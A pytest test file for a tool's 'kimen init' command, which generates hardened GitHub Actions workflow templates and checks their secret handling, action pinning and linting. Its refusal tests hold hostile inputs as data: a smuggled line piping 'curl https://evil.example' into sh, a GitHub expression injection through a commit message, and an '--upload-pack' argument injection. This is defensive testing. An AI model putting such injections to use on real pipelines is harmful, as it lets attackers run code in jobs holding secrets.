"""`kimen init ci-pr-safety|ci-deploy|ci-sync-gate` (docs/ci.md): the workflows parse, call only kimen commands and
flags that exist, install kimen with `--install-spec` verbatim, hand the identity only to the steps
that run kimen, guard the deploy job with a GitHub environment and a concurrency group, write every
flag value so that it reads back as given (or refuse it), pass actionlint and zizmor, and ship as
rendered copies in .github/workflows."""

from __future__ import annotations

import re
import shlex
import stat
from pathlib import Path

import pytest
import yaml

from kimen import __version__
from tests import workflow_lint

REPO = Path(__file__).resolve().parents[2]
SHIPPED = {"ci-pr-safety": REPO / ".github/workflows/kimen-pr-safety-template.yml",
           "ci-deploy": REPO / ".github/workflows/kimen-deploy-template.yml",
           "ci-sync-gate": REPO / ".github/workflows/kimen-sync-gate-template.yml"}
TEMPLATES = sorted(SHIPPED)
SECRET_ENV = {"KIMEN_AGE_IDENTITY": "${{ secrets.KIMEN_AGE_IDENTITY }}",
              "KIMEN_TRUSTED_SIGNERS": "${{ vars.KIMEN_TRUSTED_SIGNERS }}"}
SHA = "0123456789abcdef" * 2 + "01234567"
# values that are awkward for YAML (`: `, ` #`, `|`, quotes) and the shell, but safe to write
CUSTOM = {
    "ci-pr-safety": {"--profile": "staging.eu", "--command": 'make check REF="$GITHUB_SHA" # lint: yes',
                     "--install-spec": "--index-url https://pypi.example.com/simple kimen==0.1.0"},
    "ci-deploy": {"--profile": "prod-eu", "--deploy-command": './deploy.sh --ref "$GITHUB_SHA" # a: b | c',
                  "--bundle": "secrets/prod.age", "--environment": "prod: eu #1",
                  "--install-spec": f"git+https://git.example.com/org/kimen@{SHA}"},
    "ci-sync-gate": {"--remote-name": "team.eu", "--remote-path": "ssh://git@git.example.com/org/team sync.git",
                     "--remote-branch": "kimen/heads", "--remote-bundle-path": "sync/team.age",
                     "--environment": "team: gate",
                     "--install-spec": "--index-url https://pypi.example.com/simple kimen==0.1.0"},
}
GATE_ENV = {"remote add": {"KIMEN_REMOTE_ID": "${{ vars.KIMEN_REMOTE_ID }}"},
            "sync": {"KIMEN_AGE_IDENTITY": "${{ secrets.KIMEN_AGE_IDENTITY }}",
                     "KIMEN_MEMBERS_PIN": "${{ vars.KIMEN_MEMBERS_PIN }}"}}
COMMAND_FLAG = {"ci-pr-safety": "--command", "ci-deploy": "--deploy-command"}
UNSAFE = ["${{ github.event.head_commit.message }}", "./deploy.sh\ncurl https://evil.example | sh",
          "a\rb", "a\u2028b", "a\tb"]


def _flags(values: dict[str, str]) -> list[str]:
    return [word for flag, value in values.items() for word in (flag, value)]


def _runs_kimen(step: dict) -> bool:
    return any(line.strip().startswith("kimen ") for line in str(step.get("run", "")).splitlines())


def _kimen_lines(workflow: dict) -> list[str]:
    return [line.strip() for job in workflow["jobs"].values() for step in job["steps"]
            for line in str(step.get("run", "")).splitlines() if line.strip().startswith("kimen ")]


def _strings(node, path=()):
    """Every key and scalar of the document, with its path."""
    if isinstance(node, dict):
        for key, value in node.items():
            yield (*path, key), str(key)
            yield from _strings(value, (*path, key))
    elif isinstance(node, list):
        for i, value in enumerate(node):
            yield from _strings(value, (*path, i))
    else:
        yield path, str(node)


def _check_commands_exist(kimen, workflow: dict) -> None:
    """Each `kimen …` line names a real command, and each of its flags is in that command's --help."""
    lines = _kimen_lines(workflow)
    assert lines
    for line in lines:
        words = shlex.split(line)[1:]
        if "--" in words:
            words = words[: words.index("--")]
        command = []
        for word in words:
            if word.startswith("-"):
                break
            command.append(word)
        assert command, line
        help_text = kimen.ok(*command, "--help").stdout
        for flag in (w for w in words if w.startswith("--")):
            assert flag in help_text, f"{flag} is not an option of kimen {' '.join(command)}"


def check_workflow(kimen, text: str, install_spec: str) -> dict:
    """The rules every template keeps, whatever its flags."""
    workflow = yaml.safe_load(text)
    assert workflow["permissions"] == {"contents": "read"}
    for level in (workflow, *workflow["jobs"].values()):  # no secret, no kimen variable above a step
        env = level.get("env") or {}
        assert not any("secrets." in f"{k}{v}" or k.startswith("KIMEN_") for k, v in env.items()), env
    for job in workflow["jobs"].values():
        assert isinstance(job.get("name"), str) and job["name"].strip(), job
        steps = job["steps"]
        uses = [s["uses"] for s in steps if "uses" in s]
        assert uses and all(re.fullmatch(r"[\w.-]+/[\w.-]+@[0-9a-f]{40}", u) for u in uses), uses
        checkout = next(s for s in steps if s.get("uses", "").startswith("actions/checkout@"))
        assert checkout["with"]["persist-credentials"] is False
        installs = [s for s in steps if "pip install" in str(s.get("run", ""))]
        assert len(installs) == 1, installs
        assert installs[0]["run"] == f"python -m pip install {install_spec}\n"  # verbatim
        assert "env" not in installs[0]  # the install step runs third-party code: no secret, no variable
    # `secrets.` only in the env: of a step that runs kimen
    hits = [path for path, value in _strings(workflow) if "secrets." in value]
    for path in hits:
        assert len(path) == 6 and (path[0], path[2], path[4]) == ("jobs", "steps", "env"), path
        assert _runs_kimen(workflow["jobs"][path[1]]["steps"][path[3]]), path
    assert text.count("secrets.") == len(hits)  # none hides where YAML does not see it
    assert "echo $" not in text
    _check_commands_exist(kimen, workflow)
    return workflow


def _generate(kimen, template: str, *flags: str, out: str = "w.yml") -> tuple[str, dict]:
    done = kimen.ok("init", template, "--out", out, "--force", *flags)
    text = (kimen.cwd / out).read_text()
    spec = dict(zip(flags[::2], flags[1::2], strict=True)).get("--install-spec", f"kimen=={__version__}")
    assert done.stdout.strip() == f"wrote {kimen.cwd / out}"
    return text, check_workflow(kimen, text, spec)


@pytest.mark.parametrize("template", TEMPLATES)
def test_generated_workflow(kimen, template):
    done = kimen.ok("init", template, "--json")
    out = Path(done.json()["out"])
    assert done.json()["action"] == "init_" + template.replace("-", "_")
    assert out.relative_to(kimen.cwd).parts[:2] == (".github", "workflows")
    assert stat.S_IMODE(out.stat().st_mode) == 0o644
    assert stat.S_IMODE(out.parent.stat().st_mode) == 0o755
    text = out.read_text()
    workflow = check_workflow(kimen, text, f"kimen=={__version__}")  # the default: this version, pinned
    triggers = workflow[True]  # YAML 1.1 reads the key `on` as true
    (job,) = workflow["jobs"].values()
    if template == "ci-pr-safety":
        assert list(triggers) == ["pull_request"]
        assert "secrets." not in text and "KIMEN_AGE_IDENTITY" not in text
        assert job["concurrency"]["cancel-in-progress"] is True
    elif template == "ci-sync-gate":
        assert triggers["push"]["branches"] == ["main"] and "workflow_dispatch" in triggers and triggers["schedule"]
        assert job["environment"] == "kimen-sync-gate"  # the environment's protection rules guard the identity
        checkout = job["steps"][0]
        assert checkout["with"] == {"persist-credentials": False, "ref": "main"}  # the head's branch, this repo
        kimen_steps = [s for s in job["steps"] if _runs_kimen(s)]
        assert [s["run"] for s in kimen_steps] == [
            'kimen remote add team --type git --path "$GITHUB_WORKSPACE" --branch main --bundle-path vault.age'
            ' --remote-id "$KIMEN_REMOTE_ID"\n',
            'kimen sync pin --remote team --check "$KIMEN_MEMBERS_PIN" --json\n',
            'kimen sync preflight --remote team --strict --allow-missing-vault --pin "$KIMEN_MEMBERS_PIN"'
            " --only head,pin,rotation --json\n"]
        assert [s["env"] for s in kimen_steps] == [GATE_ENV["remote add"], GATE_ENV["sync"], GATE_ENV["sync"]]
        assert not any("env" in s for s in job["steps"] if not _runs_kimen(s))
        assert "KIMEN_PASSPHRASE" not in text and "--vault " not in text  # no vault, no passphrase
    else:
        assert triggers["push"]["branches"] == ["main"] and "workflow_dispatch" in triggers
        assert job["environment"] == "production"
        assert job["concurrency"] == {"group": "kimen-deploy-production", "cancel-in-progress": False}
        kimen_steps = [s for s in job["steps"] if _runs_kimen(s)]
        assert [s["run"] for s in kimen_steps] == [
            "kimen doctor --bundle vault.age --profile prod --strict --json\n",
            "kimen project run --bundle vault.age --profile prod --mask -- ./scripts/deploy.sh\n"]
        assert all(s["env"] == SECRET_ENV for s in kimen_steps)
        assert not any("env" in s for s in job["steps"] if not _runs_kimen(s))


@pytest.mark.parametrize("template", TEMPLATES)
def test_flag_values_read_back_exactly(kimen, template):
    values = CUSTOM[template]
    _text, workflow = _generate(kimen, template, *_flags(values))
    (job,) = workflow["jobs"].values()
    lines = _kimen_lines(workflow)
    if template == "ci-sync-gate":
        add = shlex.split(lines[0])
        assert add[:4] == ["kimen", "remote", "add", values["--remote-name"]]
        given = dict(zip(add[4::2], add[5::2], strict=True))
        assert given == {"--type": "git", "--path": values["--remote-path"], "--branch": values["--remote-branch"],
                         "--bundle-path": values["--remote-bundle-path"], "--remote-id": "$KIMEN_REMOTE_ID"}
        assert all(f"--remote {values['--remote-name']} " in line for line in lines[1:])
        assert workflow[True]["push"]["branches"] == [values["--remote-branch"]]
        assert job["environment"] == values["--environment"]
        assert "ref" not in job["steps"][0]["with"]  # another repository: check out this one as triggered
        for branch in ("yes", "1.0"):  # a branch YAML would read as a boolean or a number stays a string
            _text, workflow = _generate(kimen, template, "--remote-branch", branch, "--remote-path", "x")
            assert workflow[True]["push"]["branches"] == [branch]
        return
    assert f"--profile {values['--profile']} " in lines[-1]
    assert lines[-1].endswith(f" -- {values[COMMAND_FLAG[template]]}")
    if template == "ci-deploy":
        assert job["environment"] == values["--environment"]
        assert job["concurrency"]["group"] == f"kimen-deploy-{values['--environment']}"
        assert all(f"--bundle {values['--bundle']} " in line for line in lines)
    # names YAML would read as booleans or numbers stay strings; placeholders in a value stay literal
    for environment in ("yes", "1.0", "null"):
        _text, workflow = _generate(kimen, "ci-deploy", "--environment", environment,
                                    "--deploy-command", "echo __PROFILE__ __COMMAND__")
        (job,) = workflow["jobs"].values()
        assert job["environment"] == environment
        assert _kimen_lines(workflow)[-1].endswith("--profile prod --mask -- echo __PROFILE__ __COMMAND__")


def test_unsafe_flag_values_are_refused(kimen):
    """A `${{` expression (GitHub expands it before the shell runs: a commit message could run in the
    job holding the identity) or a line break in any value written into a template is refused."""
    flags = {"ci-pr-safety": ["--profile", "--command", "--install-spec"],
             "ci-deploy": ["--profile", "--deploy-command", "--bundle", "--environment", "--install-spec"],
             "ci-sync-gate": ["--remote-name", "--remote-type", "--remote-path", "--remote-branch",
                              "--remote-bundle-path", "--environment", "--install-spec"]}
    for template, names in flags.items():
        for flag in names:
            for value in UNSAFE:
                done = kimen.fail(33, "template_value_unsafe", "init", template, "--out", "w.yml", flag, value)
                envelope = done.err_json()
                assert envelope["error"].startswith(f"{flag} cannot be written into a workflow"), envelope
                assert "$GITHUB_SHA" in envelope["hint"]
                assert "head_commit" not in done.err and "evil" not in done.err  # the value is not echoed
    assert not (kimen.cwd / "w.yml").exists()
    done = kimen.run("init", "ci-deploy", "--deploy-command", "echo ${{ github.event.head_commit.message }}")
    assert done.code == 33 and "kimen: hint: use shell variables such as $GITHUB_SHA" in done.err


def test_flags_and_refusals(kimen):
    text, _workflow = _generate(kimen, "ci-deploy", "--profile", "staging", "--deploy-command",
                                "make deploy ENV=staging # done", "--bundle", "secrets/staging.age", out="d.yml")
    assert "--bundle secrets/staging.age --profile staging --mask -- make deploy ENV=staging # done" in text
    done = kimen.fail(33, "output_exists", "init", "ci-deploy", "--out", "d.yml")
    assert "--force" in done.err_json()["hint"]
    kimen.ok("init", "ci-deploy", "--out", "d.yml", "--force")
    assert "--profile prod" in (kimen.cwd / "d.yml").read_text()
    (kimen.cwd / "dir.yml").mkdir()
    kimen.fail(33, "output_is_directory", "init", "ci-pr-safety", "--out", "dir.yml")
    kimen.fail(33, "invalid_profile_name", "init", "ci-pr-safety", "--out", "x.yml", "--profile", "a b")
    for bundle in ("../x.age", "a//x.age", "x/", ".", "/x.age"):
        kimen.fail(33, "init_failed", "init", "ci-deploy", "--out", "x.yml", "--bundle", bundle)
    for bundle in (".kimen/vault.age", "./vault.age"):  # where docs/ci.md keeps recipients.txt, and a ./ path
        text, _workflow = _generate(kimen, "ci-deploy", "--bundle", bundle, out=f"{bundle.replace('/', '_')}.yml")
        assert f"--bundle {bundle} --profile" in text
    for flag, value in (("--install-spec", " "), ("--deploy-command", ""), ("--environment", ""),
                        ("--environment", " prod"), ("--environment", "e" * 256)):
        kimen.fail(33, "init_failed", "init", "ci-deploy", "--out", "x.yml", flag, value)
    assert not (kimen.cwd / "x.yml").exists()


def test_sync_gate_refusals(kimen):
    """The remote the gate writes follows `kimen remote add`'s rules, and only a git remote can be gated."""
    for kind in ("fs", "s3", ""):
        done = kimen.fail(33, "invalid_remote_type", "init", "ci-sync-gate", "--out", "x.yml", "--remote-type", kind)
        assert "--remote-type git" in done.err_json()["hint"]
    for flag, value, reason in (("--remote-name", "a b", "invalid_remote_name"),
                                ("--remote-name", "", "empty_remote_name"),
                                ("--remote-name", "-x", "invalid_remote_name"),  # would read as a flag
                                ("--remote-bundle-path", "../x.age", "invalid_bundle_path"),
                                ("--remote-bundle-path", ".git/x.age", "invalid_bundle_path"),
                                ("--remote-bundle-path", "/x.age", "invalid_bundle_path"),
                                ("--remote-branch", "-x", "init_failed"), ("--remote-branch", "a..b", "init_failed"),
                                ("--remote-path", "--upload-pack=x", "init_failed"),
                                ("--remote-path", " x", "init_failed"), ("--environment", " e", "init_failed")):
        kimen.fail(33, reason, "init", "ci-sync-gate", "--out", "x.yml", f"{flag}={value}")
    assert not (kimen.cwd / "x.yml").exists()
    # the push trigger's branch is a GitHub filter pattern: its pattern characters are escaped, so
    # it matches exactly that branch (`release+1`, not `release1`; `!x` is not a negation)
    for branch, pattern in (("release+1", "release\\+1"), ("!hotfix", "\\!hotfix"), ("a]b", "a\\]b"),
                            ("plain/topic-1", "plain/topic-1")):
        _text, workflow = _generate(kimen, "ci-sync-gate", "--remote-branch", branch, out="g.yml")
        assert workflow[True]["push"]["branches"] == [pattern], workflow[True]
    # a path with shell characters is one quoted word: the shell reads it back as given
    _text, workflow = _generate(kimen, "ci-sync-gate", "--remote-path", "/srv/team's $HOME; `x`.git")
    assert shlex.split(_kimen_lines(workflow)[0])[7] == "/srv/team's $HOME; `x`.git"


def _documented_install_specs() -> list[str]:
    """docs/ci.md's three install choices (a pinned git URL, a wheel, a private index), filled in."""
    text = (REPO / "docs" / "ci.md").read_text()
    section = text.split("### Installing kimen in the job", 1)[1].split("\n### ", 1)[0]
    specs = re.findall(r"--install-spec '([^']+)'", section)
    assert [spec.split(":")[0].split("/")[0] for spec in specs] == ["git+https", ".", "--index-url https"]
    fill = {"<host>": "git.example.com", "<org>": "example-org", "<40-hex sha>": SHA, "<version>": __version__,
            "<index>": "pypi.example.com"}
    for placeholder, value in fill.items():
        specs = [spec.replace(placeholder, value) for spec in specs]
    assert not any("<" in spec for spec in specs), specs
    return specs


def test_the_install_choices_of_the_docs_are_written_verbatim(kimen):
    for spec in _documented_install_specs():
        _generate(kimen, "ci-deploy", "--install-spec", spec)  # checks that the install step is SPEC verbatim


def _lint_inputs(kimen) -> list[Path]:
    """Every template with default flags and with CUSTOM's, and the deploy template with each
    install choice of the docs."""
    variants = [(template, variant, flags) for template, values in CUSTOM.items()
                for variant, flags in (("default", []), ("custom", _flags(values)))]
    variants += [("ci-deploy", f"doc-{i}", ["--install-spec", spec])
                 for i, spec in enumerate(_documented_install_specs())]
    files = []
    for template, variant, flags in variants:
        out = kimen.cwd / ".github" / "workflows" / f"{template}-{variant}.yml"
        kimen.ok("init", template, "--out", str(out), *flags)
        assert "zizmor" not in out.read_text()  # no ignore comment
        files.append(out)
    return files


def test_generated_workflows_pass_zizmor(kimen):
    assert not [p for p in ("zizmor.yml", ".github/zizmor.yml") if (REPO / p).exists()]  # no config file
    workflow_lint.zizmor(_lint_inputs(kimen))


def test_generated_workflows_pass_actionlint(kimen):
    workflow_lint.actionlint(_lint_inputs(kimen))


@pytest.mark.parametrize("template", sorted(SHIPPED))
def test_shipped_templates_are_what_init_writes(kimen, template):
    """The copies in .github/workflows are `kimen init`'s output with the trigger reduced to
    workflow_dispatch (regenerate with `python scripts/gen_ci_templates.py`)."""
    kimen.ok("init", template, "--out", "w.yml")
    generated = (kimen.cwd / "w.yml").read_text()
    expected, count = re.subn(r"^on:\n(?:  .*\n)+", "on:\n  workflow_dispatch:\n", generated, flags=re.M)
    assert count == 1 and expected != generated
    assert SHIPPED[template].read_text() == expected, "run: python scripts/gen_ci_templates.py"


@pytest.mark.parametrize("name, valid", [
    ("p" * 129, True),  # long names: the profile rule has no length limit of its own
    ("prod.eu-1_x", True), ("a b", False), (".hidden", False), ("a/b", False), ("é", False),
])
def test_init_and_run_share_one_profile_name_rule(kimen, name, valid):
    kimen.write_profile("p" * 129, "env A=const:x\n")
    run = kimen.run("run", "--json", "--profile", name, "--", "true")
    if valid:
        kimen.ok("init", "ci-pr-safety", "--out", "x.yml", "--profile", name)
        assert run.code == 0 or run.err_json()["reason"] == "profile_not_found"
    else:
        kimen.fail(33, "invalid_profile_name", "init", "ci-pr-safety", "--out", "x.yml", "--profile", name)
        assert run.err_json()["reason"] == "invalid_profile_name"


def test_init_refuses_a_profile_that_would_read_as_a_flag(kimen):
    kimen.fail(33, "invalid_profile_name", "init", "ci-pr-safety", "--out", "x.yml", "--profile=-x")
